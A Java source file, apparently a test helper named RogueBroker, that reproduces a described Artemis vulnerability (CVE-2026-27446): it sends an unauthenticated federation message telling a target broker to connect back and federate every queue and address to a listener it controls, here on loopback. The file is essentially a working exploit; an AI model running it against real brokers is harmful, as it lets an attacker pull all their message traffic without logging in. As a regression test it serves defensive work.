package jp.renkei.routing;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import org.apache.activemq.artemis.api.core.TransportConfiguration;
import org.apache.activemq.artemis.api.core.client.ActiveMQClient;
import org.apache.activemq.artemis.api.core.client.ServerLocator;
import org.apache.activemq.artemis.core.config.federation.FederationDownstreamConfiguration;
import org.apache.activemq.artemis.core.config.federation.FederationQueuePolicyConfiguration;
import org.apache.activemq.artemis.core.config.federation.FederationQueuePolicyConfiguration.Matcher;
import org.apache.activemq.artemis.core.protocol.core.CoreRemotingConnection;
import org.apache.activemq.artemis.core.protocol.core.impl.ChannelImpl;
import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.FederationDownstreamConnectMessage;
import org.apache.activemq.artemis.core.remoting.impl.netty.NettyConnectorFactory;

/** A broker of somebody else, which wants the hub's to connect to it (CVE-2026-27446). */
final class RogueBroker implements AutoCloseable {

  private static final String EVERYTHING = "everything";

  private final ServerSocket door;
  private final CompletableFuture<Void> reached;

  RogueBroker() throws IOException {
    door = new ServerSocket(0, 1, InetAddress.getLoopbackAddress());
    reached = CompletableFuture.runAsync(this::awaitSomebody, task -> new Thread(task).start());
  }

  /**
   * Tells a broker to connect here, without having logged in there.
   *
   * @return completed when that broker has closed the connection that it was told on
   */
  CompletableFuture<Void> call(String url) throws Exception {
    CompletableFuture<Void> closed = new CompletableFuture<>();
    ServerLocator locator = ActiveMQClient.createServerLocator(url).setReconnectAttempts(0);
    CoreRemotingConnection connection =
        (CoreRemotingConnection) locator.createSessionFactory().getConnection();
    connection.addCloseListener(() -> closed.complete(null));
    connection.getChannel(ChannelImpl.CHANNEL_ID.FEDERATION.id, -1).send(message());
    return closed.whenComplete((nothing, failure) -> locator.close());
  }

  boolean wasReached() {
    return reached.isDone() && !reached.isCompletedExceptionally();
  }

  private FederationDownstreamConnectMessage message() {
    FederationDownstreamConfiguration downstream = new FederationDownstreamConfiguration();
    downstream.setName("rogue");
    downstream.setUpstreamConfiguration(
        new TransportConfiguration(
            NettyConnectorFactory.class.getName(),
            Map.of("host", "127.0.0.1", "port", door.getLocalPort()),
            "rogue"));
    downstream.addPolicyRef(EVERYTHING);
    FederationDownstreamConnectMessage message = new FederationDownstreamConnectMessage();
    message.setName("rogue");
    message.setFederationPolicyMap(
        Map.of(
            EVERYTHING,
            new FederationQueuePolicyConfiguration()
                .setName(EVERYTHING)
                .addInclude(new Matcher().setQueueMatch("#").setAddressMatch("#"))));
    message.setStreamConfiguration(downstream);
    return message;
  }

  private void awaitSomebody() {
    try {
      door.accept().close();
    } catch (IOException e) {
      throw new IllegalStateException("nobody came", e);
    }
  }

  @Override
  public void close() throws IOException {
    door.close();
  }
}
